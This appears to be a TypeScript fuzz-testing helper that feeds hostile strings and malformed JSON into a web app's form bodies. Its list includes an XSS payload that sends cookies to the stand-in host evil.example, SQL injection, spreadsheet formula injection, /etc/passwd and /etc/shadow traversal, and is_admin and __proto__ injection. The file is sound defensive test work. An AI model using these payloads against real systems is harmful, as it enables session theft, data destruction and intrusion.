import { Raw } from '../support/wire/wire';
import type { Chance } from './chance';

/** Texts used in attacks, and unusual texts that people really send. */
const TEXTS = [
  '楼上漏水三个月，天花板起皮，对方一直拖着不修。',
  '<script>fetch("//evil.example/"+document.cookie)</script>楼上漏水',
  '<img src=x onerror=alert(1)>一直没有结果的漏水',
  '"><svg/onload=alert(1)>{{7*7}}${7*7}<%= 7*7 %>',
  "'); drop table app.cases; -- 楼上漏水三个月",
  "' or '1'='1' /* */ union select value from app.secrets --",
  "$$; select pg_sleep(60); $$ \\\\ \\x00 E'\\047'",
  "=cmd|' /C calc'!A0，漏水的赔偿金额",
  '+HYPERLINK("http://evil.example?x="&A1,"点我")',
  "@SUM(1+1)*cmd|' /C calc'!A0\t-2+3",
  '👨‍👩‍👧‍👦🙂🏠💧🇨🇳 楼上漏水没人管 ❤️‍🔥',
  '\u202e修不着拖直一方对\u202c，\u2066天花板\u2069起皮\u200f',
  'שלום עליכם مرحبا بالعالم 楼上漏水',
  '\u0001\u0008楼上\u000b\u000c漏水\u001f三个月\u007f\u0085\u009f没有修',
  '\ufeff\u200b\u200e　 \u00a0楼上漏水三个月没有修　\u2003',
  '第一行：漏水\r\n第二行：起皮\n\t第三行：发霉',
  'Z̷̢̛͎a̶͓̿l̴̟̈́g̸̰̀o̵̺͝ e\u0301\u0301\u0301 ﬁ ㎏ Å',
  '𠮷野家𪚥龘靐齉爩 的邻居漏水纠纷',
  '\uffff\ufffe\ufdd0非字符\u{10ffff}也在里面',
  '%00%0d%0aSet-Cookie: a=b；../../etc/passwd；file:///etc/shadow',
  '{"$gt": ""}，[1,2]，{a,b}，(1,2)，\\N，"引号"',
  'null',
  'undefined NaN Infinity true [object Object]',
  '漏',
  '',
  '　 \n\t ',
  '\u200b\u202e\ufeff',
  'a'.repeat(11),
  '长'.repeat(2000),
  '长'.repeat(2001),
  '🙂'.repeat(1000),
  '\u200b'.repeat(3000) + '楼上漏水三个月没有人修',
  'e\u0301'.repeat(1500),
  '\u{1d160}'.repeat(1900),
  '<b>'.repeat(600),
  'x'.repeat(300_000),
];

/** Raw JSON that JSON.stringify cannot produce: half surrogate pairs, NUL, numbers out of range. */
const RAW = [
  '"\\ud800"',
  '"楼上漏水\\udfff三个月\\ud83d没有修好"',
  '"楼上漏水\\u0000三个月没有修"',
  '"\\ud83d\\ude42 楼上漏水三个月没有修"',
  '1e400',
  '-1e400',
  '1e-400',
  '9'.repeat(500),
  '0.1e1',
  `${'['.repeat(50)}${']'.repeat(50)}`,
  `${'{"a":'.repeat(2000)}1${'}'.repeat(2000)}`,
  '{"name": "张三", "name": "李四", "__proto__": {"kind": "person"}}',
].map((text) => new Raw(text));

const OTHERS = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  2 ** 31,
  1e21,
  -0.0001,
  'NaN',
  'Infinity',
  [],
  {},
  [null],
  [[[]]],
  ['楼上漏水'],
  { a: { b: { c: [1, '<b>', null] } } },
  '2026-02-30',
  '00000000-0000-0000-0000-000000000000',
  "350821'--",
];

/** A text: one of the above, two of them joined, or one cut anywhere, even within a character. */
function hostileText({ below, pick }: Chance): string {
  const text = pick(TEXTS);
  const way = below(4);
  if (way === 0) return text + pick(TEXTS);
  if (way === 1) return text.slice(below(text.length + 1));
  return text;
}

/** Any value, most often a text. */
function hostileValue(chance: Chance): unknown {
  const way = chance.below(10);
  return way < 6 ? hostileText(chance) : way < 8 ? chance.pick(RAW) : structuredClone(chance.pick(OTHERS));
}

/** Serializes a value that may contain raw JSON anywhere. */
function toJson(value: unknown): string {
  if (value instanceof Raw) return value.text;
  if (Array.isArray(value)) return `[${value.map(toJson).join(',')}]`;
  if (typeof value === 'object' && value !== null) {
    const fields = Object.entries(value).filter(([, one]) => one !== undefined);
    return `{${fields.map(([key, one]) => `${JSON.stringify(key)}:${toJson(one)}`).join(',')}}`;
  }
  return JSON.stringify(value) ?? 'null';
}

const isObject = (value: unknown): value is Record<string, unknown> =>
  typeof value === 'object' && value !== null && !(value instanceof Raw);

/** Breaks a form in some way and returns the body to send. */
export function breakForm(form: Record<string, unknown>, chance: Chance, texts: readonly string[]): string {
  const { below, pick } = chance;
  const args: Record<string, unknown> = structuredClone(form);
  const rounds = 1 + below(3);
  // A third of the attempts changes only the texts, so that many are stored.
  if (below(3) === 0) {
    for (let n = 0; n < rounds; n += 1) args[pick(texts)] = hostileText(chance);
    return toJson(args);
  }
  for (let n = 0; n < rounds; n += 1) {
    const name = pick(Object.keys(args).length > 0 ? Object.keys(args) : texts);
    const inside = args[name];
    const way = below(10);
    if (way === 0) delete args[name];
    else if (way === 1)
      args[pick(['is_admin', 'role', '', 'constructor', '字段', 'select'])] = hostileValue(chance);
    else if (way < 6 && isObject(inside)) {
      const held: unknown = Array.isArray(inside) ? inside[0] : inside;
      if (isObject(held)) held[pick([...Object.keys(held), 'address', 'minor'])] = hostileValue(chance);
    } else args[name] = hostileValue(chance);
  }
  const body = toJson(args);
  switch (below(40)) {
    case 0:
      return body.slice(0, below(body.length));
    case 1:
      return pick(['', '[]', 'null', '"x"', '1', '{', '{"a":}', '\u0000', 'a=1&b=2', '<form/>', `[${body}]`]);
    case 2:
      return `${body}${body}`;
    default:
      return body;
  }
}
